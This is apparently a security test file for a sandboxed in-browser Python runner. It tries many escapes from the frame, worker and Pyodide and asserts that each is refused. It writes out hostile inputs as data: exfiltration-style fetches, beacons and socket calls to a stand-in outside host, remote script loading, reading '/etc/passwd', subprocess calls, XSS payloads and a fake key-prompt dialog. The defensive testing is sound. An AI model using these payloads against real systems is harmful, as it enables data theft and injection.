/** What code in the frame tries, to get out of it. Each attempt is made, and reaches nothing. */
import { expect, test } from 'vitest'
import { HELLO } from '../../client/run/messages.ts'
import { poll } from '../support/pages.ts'
import { useRuns } from '../support/runs.ts'
import { html, startSite } from '../support/site.ts'

const runs = useRuns()

/** Requests for anything but the files that code runs with. */
const reached = () => [
  ...runs.elsewhere.asked,
  ...runs.millrace.logs.map(({ route }) => route).filter((route) => !String(route).startsWith('/run/')),
]

/**
 * Makes the attempt in a function of the page, the frame or the worker.
 * @returns what came of it, or the error's name
 */
const attempt = (code: string) =>
  // Later than the debugger's own call, in which text may be code.
  `(async () => { await new Promise((later) => setTimeout(later)); try { return String(await (async () => { ${code} })()) } catch (error) { return 'refused: ' + error.name } })()`

/** `HOST`: the Worker. `ELSEWHERE`: another site. */
const filled = (code: string) => code.replaceAll('HOST', runs.url).replaceAll('ELSEWHERE', runs.elsewhere.url)

const REFUSED = /^(?:refused: \w+|undefined|false|null)$/

const IN_WORKER: [what: string, code: string][] = [
  ['a question to the chat', `return (await fetch('HOST/chat', { method: 'POST', body: 'Why?' })).status`],
  ['a session of the chat', `return (await fetch('HOST/v1/sessions', { method: 'POST' })).status`],
  ['the chat’s models', `return (await fetch('HOST/v1/models', { mode: 'no-cors' })).type`],
  ['its health', `return (await fetch('HOST/healthz')).status`],
  ['the frame’s own document', `return (await fetch('HOST/run/')).status`],
  ['another site', `return (await fetch('ELSEWHERE/fetch')).status`],
  ['another site, by a path that climbs', `return (await fetch('HOST/run/python/../../healthz')).status`],
  [
    'another site, by an older request',
    `const r = new XMLHttpRequest(); r.open('GET', 'ELSEWHERE/xhr', false); r.send(); return r.status`,
  ],
  [
    'a socket',
    `return new Promise((resolve) => { const s = new WebSocket('ELSEWHERE/socket'.replace('http', 'ws')); s.onopen = () => resolve('open'); s.onerror = () => resolve(null) })`,
  ],
  [
    'a stream of events',
    `return new Promise((resolve) => { const s = new EventSource('ELSEWHERE/events'); s.onopen = () => resolve('open'); s.onerror = () => resolve(null) })`,
  ],
  [
    'a transport',
    `const t = new WebTransport('ELSEWHERE'.replace('http', 'https')); await t.ready; return 'open'`,
  ],
  ['a script', `importScripts('ELSEWHERE/script.js'); return 'loaded'`],
  ['a module', `await import('ELSEWHERE/module.js'); return 'loaded'`],
  ['a worker of another site', `new Worker('ELSEWHERE/worker.js'); return 'made'`],
  ['code from text', `return eval('1 + 1')`],
  ['a function from text', `return new Function('return 1')()`],
  ['a connection to a peer', `return typeof RTCPeerConnection === 'undefined' ? null : 'there'`],
  ['a service worker', `return typeof navigator.serviceWorker === 'undefined' ? null : 'there'`],
  [
    'a database',
    `return new Promise((resolve, reject) => { const r = indexedDB.open('x'); r.onsuccess = () => resolve('open'); r.onerror = () => reject(r.error) })`,
  ],
  ['caches', `return caches.open('x')`],
  ['files', `return navigator.storage.getDirectory()`],
]

test('a worker of the frame reaches nothing but Python', async () => {
  // A program that waits, and so lets its thread go.
  const { worker, text } = await runs.run('python', 'import asyncio\nasyncio.run(asyncio.sleep(50))')
  await poll(text).toContain('Running')
  const waiting = await worker()
  for (const [what, code] of IN_WORKER) {
    expect(await waiting.evaluate(attempt(filled(code))), what).toMatch(REFUSED)
  }
  expect(reached()).toEqual([])
})

const IN_FRAME: [what: string, code: string][] = [
  ['storage', `return localStorage.length`],
  ['storage of the tab', `return sessionStorage.length`],
  ['cookies', `document.cookie = 'a=1'; return document.cookie`],
  ['the page around it', `return parent.document.title`],
  ['what the page has', `return parent.order`],
  ['the page’s address', `parent.location = 'ELSEWHERE/parent'; return 'went'`],
  ['the window’s address', `top.location.href = 'ELSEWHERE/top'; return 'went'`],
  ['a window', `return open('ELSEWHERE/popup')`],
  ['a dialog', `return confirm('Your key?')`],
  ['a service worker', `return (await navigator.serviceWorker.register('HOST/run/frame.js')).scope`],
  ['the chat', `return (await fetch('HOST/v1/usage')).status`],
  ['a beacon', `return navigator.sendBeacon('ELSEWHERE/beacon', 'x') && null`],
  [
    'a picture',
    `return new Promise((resolve) => { const i = new Image(); i.onload = () => resolve('seen'); i.onerror = () => resolve(null); i.src = 'ELSEWHERE/picture' })`,
  ],
  [
    'a script',
    `return new Promise((resolve) => { const s = document.createElement('script'); s.onload = () => resolve('ran'); s.onerror = () => resolve(null); s.src = 'ELSEWHERE/script.js'; document.body.append(s) })`,
  ],
  [
    'a script in the page',
    `const s = document.createElement('script'); s.textContent = 'globalThis.ran = 1'; document.body.append(s); return globalThis.ran`,
  ],
  [
    'a form',
    `const f = document.createElement('form'); f.action = 'ELSEWHERE/form'; document.body.append(f); f.submit(); return null`,
  ],
  [
    'a frame',
    `const f = document.createElement('iframe'); f.src = 'ELSEWHERE/frame'; document.body.append(f); await new Promise((done) => (f.onload = done)); return null`,
  ],
  ['the clipboard', `return navigator.clipboard.readText()`],
  [
    'a place on earth',
    `return new Promise((_, reject) => navigator.geolocation.getCurrentPosition(() => {}, () => reject(new DOMException('', 'Denied'))))`,
  ],
]

test('a script in the frame’s document would reach nothing', async () => {
  const { frame, page } = await runs.run('python', 'while True: pass')
  const address = page.url()
  for (const [what, code] of IN_FRAME)
    expect(await frame.evaluate(attempt(filled(code))), what).toMatch(REFUSED)
  expect(reached()).toEqual([])
  expect(page.url()).toBe(address)
  expect(page.context().pages()).toHaveLength(1)
  expect(await page.context().cookies()).toEqual([])
})

const FROM_PYTHON: [what: string, code: string, said: RegExp][] = [
  ['JavaScript', 'import js\njs.fetch("HOST/healthz")', /AttributeError|ImportError/],
  ['the window', 'from js import window', /ImportError/],
  [
    'eval',
    'from pyodide.code import run_js\nrun_js("fetch(\'ELSEWHERE/eval\')")',
    /EvalError|unsafe-eval|ImportError/,
  ],
  [
    'a function made of text',
    'import pyodide_js\npyodide_js.loadPackage.constructor("return fetch(\'ELSEWHERE/made\')")()',
    /EvalError|unsafe-eval/,
  ],
  [
    'a request',
    'import asyncio\nfrom pyodide.http import pyfetch\nasyncio.run(pyfetch("HOST/healthz"))',
    /Error/,
  ],
  ['urllib', 'from urllib.request import urlopen\nurlopen("ELSEWHERE/urllib")', /Error/],
  [
    'a socket',
    'import socket\nfrom urllib.parse import urlsplit\nto = urlsplit("ELSEWHERE")\ns = socket.create_connection((to.hostname, to.port), 1)\ns.sendall(b"GET /socket HTTP/1.1\\r\\n\\r\\n")\nassert s.recv(10), "no answer"',
    /Error/,
  ],
  [
    'a package of another site',
    'import asyncio, pyodide_js\nasyncio.run(pyodide_js.loadPackage("ELSEWHERE/x-1-py3-none-any.whl"))\nimport x',
    /Error/,
  ],
  ['a process', 'import subprocess\nsubprocess.run(["ls"])', /Error/],
  ['files of the machine', 'open("/etc/passwd").read()', /FileNotFoundError/],
]

test('Python reaches nothing', async () => {
  const programs = FROM_PYTHON.map(
    ([what, code]) =>
      `print(${JSON.stringify(what)})\ntry:\n    exec(${JSON.stringify(filled(code))})\n    print("reached")\nexcept BaseException as error:\n    print(type(error).__name__, error)\nprint("---")`,
  )
  const { text, ended } = await runs.run('python', programs.join('\n'))
  await ended()
  const shown = await text()
  for (const [what, , said] of FROM_PYTHON) {
    const [, after = ''] = shown.split(`${what}\n`)
    expect(after.split('---')[0], what).toMatch(said)
  }
  expect(shown).not.toContain('reached')
  expect(reached()).toEqual([])
})

test('a worker that forges news changes what is shown, and nothing else', async () => {
  const { page, frame, worker, text } = await runs.run(
    'python',
    'import asyncio\nasyncio.run(asyncio.sleep(50))',
  )
  await poll(text).toContain('Running')
  const running = await worker()
  await running.evaluate(() => {
    postMessage({ type: 'text', kind: 'out', text: '<img src=x onerror="parent.order(1)"><b>bold</b>' })
    postMessage({
      type: 'picture',
      png: new TextEncoder().encode('<svg onload="alert(1)"/>').buffer,
      title: '"><b>',
    })
    postMessage({ type: 'loading', loaded: 1, total: 2, megabytes: 6 })
    postMessage({ type: 'started' })
    postMessage({ type: 'open', url: 'https://evil.test' })
    postMessage(null)
  })
  await poll(() => frame.locator('pre').textContent()).toContain('<b>bold</b>')
  expect(await frame.locator('b').count()).toBe(0)
  expect(await frame.locator('img').getAttribute('alt')).toBe('Figure 1: "><b>')
  expect(await text()).toContain('Running')
  const types = await page.evaluate(() => [...new Set(reports.map(({ type }) => type))])
  expect(types.toSorted()).toEqual(['height', 'ready'])
})

test('a flood of news ends with its worker', async () => {
  const { frame, worker, text, ended } = await runs.run(
    'python',
    'import asyncio\nasyncio.run(asyncio.sleep(50))',
  )
  await poll(text).toContain('Running')
  await (await worker())
    .evaluate(() => {
      for (let i = 0; i < 100; i++) postMessage({ type: 'text', kind: 'out', text: 'x'.repeat(1_000_000) })
    })
    // It may be gone before it says that it is done.
    .catch(() => {})
  await ended()
  expect(await frame.locator('[role=status]').textContent()).toMatch(/more output/)
})

test('the frame takes no order from a window that isn’t its page, and only one port', async () => {
  const { page, frame, text } = await runs.run('python', 'print("the first")\nwhile True: pass')
  await poll(text).toContain('the first')
  // Another window of the page, and the page itself, again.
  await page.evaluate(
    ([hello]) => {
      const target = frames[0]
      const start = { type: 'start', kind: 'python', code: 'print("another")', words: {}, look: {} }
      const other = document.body.appendChild(document.createElement('iframe')).contentWindow
      for (const from of [
        window,
        other as unknown as { postMessage: unknown; eval(code: string): unknown },
      ]) {
        const { port1, port2 } = new MessageChannel()
        port1.postMessage(start)
        Object.assign(globalThis, { target, port2 })
        if (from === window) target?.postMessage(hello, '*', [port2])
        else
          (from as { eval(code: string): unknown }).eval(
            `parent.target.postMessage('${hello}', '*', [parent.port2])`,
          )
      }
    },
    [HELLO] as const,
  )
  // The frame handles messages in their order, and then this one.
  await frame.evaluate(() => new Promise((done) => setTimeout(done)))
  expect(await frame.locator('main').count()).toBe(1)
  expect(await text()).not.toContain('another')
})

test('opened alone, the frame is empty and has no origin', async () => {
  const page = await runs.browser.newPage()
  await page.goto(`${runs.url}/run/`)
  await page.evaluate((hello) => postMessage(hello, '*', [new MessageChannel().port2]), HELLO)
  await page.evaluate(() => new Promise((done) => setTimeout(done)))
  expect(await page.evaluate(() => [origin, document.body.childElementCount])).toEqual(['null', 0])
})

test('a site that isn’t allowed can’t embed it', async () => {
  const other = await startSite(() => html(`<iframe src="${runs.url}/run/"></iframe>`))
  const page = await runs.browser.newPage()
  const refused = page.waitForEvent('console', (line) => line.text().includes('frame-ancestors'))
  await page.goto(other.url)
  await refused
  await poll(async () => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/')
  other.stop()
})

test.each(['/run/', '/run/preview/'])('%s says in its headers what it may do', async (path) => {
  const { headers, status } = await fetch(runs.url + path)
  expect(status).toBe(200)
  const policy = headers.get('content-security-policy') ?? ''
  const directives = new Map(policy.split('; ').map((one) => [one.split(' ')[0], one.split(' ').slice(1)]))
  expect(directives.get('sandbox')).toEqual(['allow-scripts'])
  expect(directives.get('default-src')).toEqual(["'none'"])
  expect(directives.get('frame-ancestors')).toEqual([runs.url, runs.site.url])
  expect(directives.get('base-uri')).toEqual(["'none'"])
  expect(directives.get('form-action')).toEqual(["'none'"])
  expect(directives.get('connect-src')).toEqual(path === '/run/' ? [`${runs.url}/run/python/`] : undefined)
  expect(headers.get('referrer-policy')).toBe('no-referrer')
})
